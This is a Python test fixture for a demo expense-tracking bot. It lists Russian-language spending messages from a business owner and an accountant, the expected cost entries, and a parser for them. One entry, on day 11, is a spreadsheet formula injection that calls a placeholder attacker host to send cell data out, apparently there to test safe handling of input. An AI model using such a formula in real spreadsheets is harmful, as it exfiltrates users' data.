"""What the owner and the accountant spend, line by line as they type it, and what it must come to.

<day> <who> | <what they type> | <line of the ladder> <sum> [on <day>] | <what they do then>

Further lines of one message are divided by « // », their costs by commas; `-` is nothing. What
they do then: `teach <article>` picks an article for unknown words, `undo`, `again`, `yesterday`,
`article <article>` changes a known one, `edit <text>` changes the message. Costs without a deal
are common, and a cost counts on both bases on its day.
"""

from dataclasses import dataclass

from sandbox.demo.calendar import date_of
from sandbox.demo.deals import minor_of
from sandbox.demo.effects import Effect, both

__all__ = ["Spend", "load_spending"]

SPENDING = """
 1 Игорь | 500 такси | administrative 500 | teach Транспорт
 1 Игорь | 1 200 обед с клиентом | administrative 1200 | teach Представительские
 2 Игорь | 700 такси | administrative 700 | -
 3 Игорь | 1,5к бензин | administrative 1500 | teach Транспорт
 3 Мария | 840.50 канцтовары | administrative 840.50 | teach Канцтовары и хозтовары
 4 Игорь | 15000 реклама вк | selling 15000 | teach Реклама и маркетинг
 5 Игорь | такси 450 вчера | administrative 450 on 4 | -
 6 Игорь | 2*350 кофе | administrative 700 | teach Представительские
 6 Игорь | 999 ошибся | - | undo
 7 Игорь | 3200 фурнитура // 1800 доставка // 650 такси | production 3200, selling 1800, administrative 650 | teach Товары и материалы // teach Доставка клиентам // -
 8 Мария | 2500 интернет | administrative 2500 | teach Связь и интернет
 9 Игорь | 500 кофе | administrative 550 | edit 550 кофе
 9 Игорь | 4000 сборщик | production 4000 | teach Монтаж и сборка
10 Игорь | 600 такси | administrative 600 on 9 | yesterday
10 Мария | 3990 crm | administrative 3990 | teach Программы и сервисы
11 Игорь | 300 =IMPORTXML("http://evil.example/?"&A1,"//a") | other_expense 300 | teach Прочие расходы
12 Игорь | 450 <b>жирный</b> & кофе | administrative 450 | teach Представительские
13 Игорь | 7000 реклама яндекс | selling 7000 | teach Реклама и маркетинг
14 Игорь | 520 такси | administrative 1040 | again
15 Мария | 1100 бумага | administrative 1100 | teach Канцтовары и хозтовары
16 Игорь | 1,7к бензин | administrative 1700 | -
17 Игорь | 9000 сборщик | production 9000 | -
18 Игорь | 2300 подарки клиентам | selling 2300 | teach Реклама и маркетинг
19 Игорь | 15.03 640 такси | administrative 640 on 14 | -
20 Игорь | 4100 доставка | selling 4100 | -
20 Мария | 560 вода в офис | administrative 560 | teach Канцтовары и хозтовары
22 Игорь | 800 обед с клиентом | administrative 800 | -
23 Игорь | 12500 реклама вк | selling 12500 | -
24 Мария | 2700 почта | administrative 2700 | teach Связь и интернет
25 Игорь | 350 такси // 1900 бензин | administrative 350, administrative 1900 | - // -
26 Игорь | 5600 фурнитура | production 5600 | -
27 Игорь | 480 кофе | administrative 480 | -
28 Игорь | 6000 сборщик | production 6000 | -
29 Мария | 3990 crm | administrative 3990 | -
30 Игорь | 710 такси | administrative 710 | -
31 Игорь | 15000 реклама вк | selling 15000 | -
32 Мария | 2500 интернет | administrative 2500 | -
33 Игорь | 2 200 подарок партнёру | administrative 2200 | teach Представительские
34 Игорь | 930 такси | other_expense 930 | article Прочие расходы
35 Игорь | 640 парковка | administrative 640 | teach Транспорт
36 Игорь | 1,8к бензин | administrative 1800 | -
39 Игорь | 4400 доставка | selling 4400 | -
41 Игорь | 770 транспорт | administrative 770 | -
42 Мария | 18500 зарплата | administrative 18500 | -
43 Игорь | 13000 реклама яндекс | selling 13000 | -
44 Игорь | 690 кофе | administrative 690 | -
45 Игорь | 500 такси | other_expense 500 | -
46 Игорь | 7700 сборщик | production 7700 | -
47 Мария | 1250.75 бумага | administrative 1250.75 | -
48 Игорь | 2100 бензин | administrative 2100 | -
49 Игорь | 5200 фурнитура вчера | production 5200 on 48 | -
50 Игорь | 999.99 опять ошибся | - | undo
51 Игорь | 15000 реклама вк | selling 15000 | -
52 Мария | 3990 crm | administrative 3990 | -
53 Игорь | 860 обед с клиентом | administrative 860 | -
55 Игорь | 3900 доставка | selling 3900 | -
56 Игорь | 400 парковка // 550 кофе | administrative 400, administrative 550 | - // -
58 Игорь | 8100 сборщик | production 8100 | -
59 Мария | 640 вода в офис | administrative 640 | -
60 Игорь | 2000 бензин | administrative 2000 | -
62 Игорь | 11000 реклама яндекс | selling 11000 | -
63 Мария | 2500 интернет | administrative 2500 | -
64 Игорь | 1700 химчистка дивана | production 1700 | teach Подрядчики
65 Игорь | 610 кофе | administrative 610 | -
67 Игорь | 4800 фурнитура | production 4800 | -
68 Игорь | 3300 доставка | selling 3300 | -
69 Мария | 2900 почта | administrative 2900 | -
70 Игорь | 2200 бензин | administrative 2200 | -
72 Игорь | 15000 реклама вк | selling 15000 | -
73 Игорь | 9300 сборщик | production 9300 | -
74 Мария | 3990 crm | administrative 3990 | -
76 Игорь | 740 обед с клиентом | administrative 740 | -
77 Игорь | 5000 штраф гибдд | other_expense 5000 | teach Штрафы и пени
78 Игорь | 640 кофе | administrative 680 | edit 680 кофе
80 Мария | 1380 бумага | administrative 1380 | -
81 Игорь | 4600 доставка | selling 4600 | -
83 Игорь | 2300 бензин | administrative 2300 | -
84 Игорь | 7400 сборщик | production 7400 | -
86 Игорь | 14000 реклама яндекс | selling 14000 | -
87 Мария | 20000 зарплата | administrative 20000 | -
88 Игорь | 900 парковка | administrative 450 | edit 450 парковка
89 Игорь | 6100 фурнитура | production 6100 | -
90 Игорь | 590 кофе | administrative 590 | -
"""


@dataclass(frozen=True, slots=True)
class Spend:
    """One message about spending; `then` has a word or two for each of its lines."""

    day: int
    who: str
    text: str
    effects: tuple[Effect, ...]
    then: tuple[str, ...]


def load_spending() -> tuple[Spend, ...]:
    """The table, read."""
    return tuple(_spend(line) for line in SPENDING.strip().splitlines())


def _spend(line: str) -> Spend:
    head, text, costs, then = (part.strip() for part in line.split(" | "))
    day, who = head.split(maxsplit=1)
    return Spend(
        day=int(day),
        who=who,
        text="\n".join(text.split(" // ")),
        effects=_effects(costs, int(day)),
        then=tuple(then.split(" // ")),
    )


def _effects(costs: str, day: int) -> tuple[Effect, ...]:
    if costs == "-":
        return ()
    found: list[Effect] = []
    for cost in costs.split(", "):
        name, amount, *on = cost.split()
        found += both(name, minor_of(amount), date_of(int(on[1]) if on else day))
    return tuple(found)
